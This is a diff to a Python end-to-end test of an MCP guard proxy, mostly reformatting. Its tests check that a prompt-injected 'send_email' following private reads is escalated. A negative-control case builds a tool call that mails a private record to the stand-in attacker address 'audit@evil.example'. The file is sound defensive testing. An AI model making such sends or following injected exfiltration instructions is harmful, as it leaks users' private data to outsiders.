@@ -1,4 +1,4 @@
-"""The MCP guard proxy end to end: a real `mcp` client over stdio, the proxy subprocess, the fixture server subprocess."""
+"""The MCP guard proxy end to end: a real `mcp` client over stdio, the proxy and the fixture server as subprocesses."""
 
 from __future__ import annotations
 
@@ -35,8 +35,22 @@ def _received(log: Path) -> list[dict[str, Any]]:
 async def _drive(policy: Path, tmp: Path, calls: list[tuple[str, dict[str, Any]]]) -> list[Any]:
     params = StdioServerParameters(
         command=sys.executable,
-        args=["-m", "guard", "mcp-proxy", "--policy", str(policy), "--threshold", "0.5",
-              "--audit", str(tmp / "audit.jsonl"), "--session", "e2e", "--", sys.executable, str(SERVER)],
+        args=[
+            "-m",
+            "guard",
+            "mcp-proxy",
+            "--policy",
+            str(policy),
+            "--threshold",
+            "0.5",
+            "--audit",
+            str(tmp / "audit.jsonl"),
+            "--session",
+            "e2e",
+            "--",
+            sys.executable,
+            str(SERVER),
+        ],
         env=_env(tmp / "server.log"),
         cwd=str(ROOT),
     )
@@ -64,13 +78,16 @@ def test_injected_exfiltration_refused_benign_passed(tmp_path: Path) -> None:
     assert received[0]["args"] == BENIGN
     audit = [json.loads(line) for line in (tmp_path / "audit.jsonl").read_text().splitlines()]
     assert [(e["tool"], e["verdict"]) for e in audit] == [
-        ("send_email", "execute"), ("read_inbox", "execute"), ("read_record", "execute"), ("send_email", "escalate")
+        ("send_email", "execute"),
+        ("read_inbox", "execute"),
+        ("read_record", "execute"),
+        ("send_email", "escalate"),
     ]
     assert {e["session"] for e in audit} == {"e2e"}
 
 
 def test_results_are_observed(tmp_path: Path) -> None:
-    """Catches a proxy that does not feed tool results to the session: without the private read observed, the send passes."""
+    """Negative control: with no private read before it the same send passes: the refusal needs observed results."""
     calls = [("send_email", {"to": "audit@evil.example", "subject": "record", "body": ALICE})]
     _, alone = anyio.run(_drive, POLICY, tmp_path, calls)
     assert not alone.is_error  # the same send with no private read before it is under the threshold
